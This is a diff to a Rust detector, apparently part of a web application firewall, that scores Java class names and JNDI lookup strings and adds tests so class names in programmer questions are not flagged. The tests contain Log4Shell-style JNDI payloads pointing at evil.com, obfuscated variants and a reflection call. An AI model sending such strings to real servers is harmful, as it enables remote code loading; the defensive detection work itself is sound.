@@ -221,16 +221,39 @@ fn class_names(folded: &str) -> Option<Hit> {
             ]
             .iter()
             .any(|s| name.starts_with(s) || name.contains(&format!(".{s}")));
-            let score = if severe { 6 } else { 12 };
-            return Some(Hit::new(
-                score,
-                "java class name",
-                at,
-                (at + search.len() + class_len).min(folded.len()),
-            ));
+            let end = (at + search.len() + class_len).min(folded.len());
+            let score = if severe {
+                6
+            } else if in_sentence(folded, at, end) {
+                30
+            } else {
+                12
+            };
+            return Some(Hit::new(score, "java class name", at, end));
         }
     }
     None
+}
+
+/// Whether the class name at `folded[start..end]` is written as a word of a sentence
+/// (`java.util.List vs ArrayList`, `is java.lang.String immutable in practice`): it stands
+/// between spaces and at least two words of letters stand beside it. A class name on its
+/// own, or glued to calls and brackets, is what expression and deserialisation payloads
+/// carry; those that run code (`Runtime`, `ProcessBuilder`, reflection) count anywhere.
+// TODO: a value that is only a harmless class name (`java.lang.String`) is still blocked at
+// paranoia 1 (the CRS corpus calls it an attack); a Java help form needs an exclusion.
+fn in_sentence(folded: &str, start: usize, end: usize) -> bool {
+    let b = folded.as_bytes();
+    let spaced = (start == 0 || b[start - 1] == b' ') && b.get(end).is_none_or(|c| *c == b' ');
+    let words = folded[..start]
+        .split(' ')
+        .chain(folded[end..].split(' '))
+        .filter(|w| {
+            let w = w.trim_end_matches(['.', ',', '?', '!']);
+            w.len() >= 2 && w.bytes().all(|c| c.is_ascii_alphabetic() || c == b'\'')
+        })
+        .count();
+    spaced && words >= 2
 }
 
 /// Gadget and runtime names chained with dots (`runtime.clonetransformer`,
@@ -323,6 +346,38 @@ mod tests {
         assert!(score("${jndi:ldap://evil.com/x}").is_some_and(|s| s <= 5));
         assert!(score("${${lower:j}ndi:${lower:l}dap://evil.com/x}").is_some_and(|s| s <= 5));
         assert!(score("${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}").is_some_and(|s| s <= 5));
+    }
+
+    #[test]
+    fn class_names_in_a_programmer_question_are_not_payloads() {
+        for text in [
+            "java.util.List vs ArrayList",
+            "is java.lang.String immutable in practice",
+            "java.util.HashMap vs TreeMap performance",
+        ] {
+            assert!(
+                score(text).is_none_or(|s| s > 20),
+                "{text}: {:?}",
+                score(text)
+            );
+        }
+    }
+
+    #[test]
+    fn class_names_alone_or_running_code_stay_blocked() {
+        for text in [
+            "java.lang.String",
+            "java.lang.Integer",
+            "what does java.lang.Runtime do",
+            "${jndi:ldap://x}",
+            "java.util.List.class.forName(x)",
+        ] {
+            assert!(
+                score(text).is_some_and(|s| s <= 20),
+                "{text}: {:?}",
+                score(text)
+            );
+        }
     }
 
     #[test]
